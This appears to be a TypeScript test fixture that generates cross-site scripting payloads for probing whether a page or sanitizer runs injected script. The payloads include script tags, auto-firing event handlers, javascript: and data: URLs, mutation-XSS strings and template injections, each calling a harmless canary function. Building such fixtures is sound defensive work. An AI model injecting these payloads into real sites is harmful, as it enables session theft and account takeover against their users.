/** `ran` is a function of the page that was never meant to be called. */
const call = 'ran(1)';
const encoded = Buffer.from(`<script>${call}</script>`).toString('base64');

/** Elements that act by themselves, as soon as they are in a page. */
const atOnce = [
  ['img src=x', 'error'],
  ['img src=/favicon.svg', 'load'],
  ['image href=x', 'error'],
  ['svg', 'load'],
  ['body', 'load'],
  ['body', 'pageshow'],
  ['video src=x', 'error'],
  ['audio src=x', 'error'],
  ['video><source src=x', 'error'],
  ['object data=x', 'error'],
  ['embed src=/favicon.svg', 'load'],
  ['iframe src=about:blank', 'load'],
  ['link rel=stylesheet href=x', 'error'],
  ['style', 'load'],
  ['input autofocus', 'focus'],
  ['textarea autofocus', 'focus'],
  ['select autofocus', 'focus'],
  ['button autofocus', 'focus'],
  ['a href=/ tabindex=0 autofocus', 'focus'],
  ['div tabindex=0 autofocus', 'focus'],
  ['details open', 'toggle'],
  ['marquee', 'start'],
  ['svg><animate attributename=x dur=1ms', 'begin'],
  ['svg><set attributename=x dur=1ms', 'begin'],
  ['x style=animation:spin contenteditable', 'animationstart'],
] as const;

/** How such an element is written; browsers take all of these for the same. */
const spellings: ((element: string, event: string) => string)[] = [
  (element, event) => `<${element} on${event}=${call}>`,
  (element, event) => `"><${element} on${event}="${call}">`,
  (element, event) => `'><${element.toUpperCase()} ON${event.toUpperCase()}='${call}'>`,
  (element, event) => `<${element.replaceAll(' ', '/')}/on${event}=${call.replace('(', '&#40;')}>`,
];

/** Addresses that are programs. */
const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `\tjavascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `\u0001javascript:${call}`,
  `javascript&colon;${call}`,
  `&#106;avascript:${call}`,
  `javascript://%0a${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,${encoded}`,
];
const places: ((address: string) => string)[] = [
  (address) => `<a href="${address}">here</a>`,
  (address) => `[here](${address})`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button autofocus>Go</button></form>`,
];

const scripts = [
  `<script>${call}</script>`,
  `</script><script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script/x>${call}</script>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<script type=module>${call}</script>`,
  `<scr<script>ipt>${call}</script>`,
  `<svg><script>${call}</script></svg>`,
  `<math><mtext><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</noscript><script>${call}</script>`,
  `--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `<template><script>${call}</script></template>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${call} src>">`,
  `<svg><use href="data:image/svg+xml;base64,${encoded}#x">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="javascript:${call}//">`,
  `<object data="javascript:${call}"></object>`,
];

/** What is meant for programs that put words into other programs: templates, JSON in pages, Markdown, style. */
const elsewhere = [
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `";${call};//`,
  `';${call};//`,
  `\`;${call};//`,
  `\u2028${call}//`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `![x](x"onerror="${call})`,
  `<x style="background:url(javascript:${call})">`,
  `<style>@import 'javascript:${call}';</style>`,
  '<!--',
  '<plaintext>',
  '<textarea>',
  '<title>',
  '<xmp>',
  '<noscript>',
  '<style>',
  '<script>',
  '<svg><style>',
  '<select>',
  '<iframe>',
  '<![CDATA[',
  '<a href="',
  "<a href='",
  '<img alt="',
  '<!--><img src=x title="',
];

/** Those which swallow what comes after them come last: in a value that holds several, each still has its turn. */
export const payloads: string[] = [
  ...scripts,
  ...atOnce.flatMap(([element, event]) => spellings.map((spell) => spell(element, event))),
  ...addresses.flatMap((address) => places.map((place) => place(address))),
  ...elsewhere,
];

/** As values for a field: each begins with an address that is a program, for fields that become links. */
export function batches(size: number): string[] {
  const rounds = Math.ceil(payloads.length / size);
  return Array.from({ length: rounds }, (_, round) => {
    const address = addresses[round % addresses.length] ?? '';
    const own = payloads.filter((_payload, at) => at % rounds === round);
    return `${address}// ${own.join(' ')}`;
  });
}
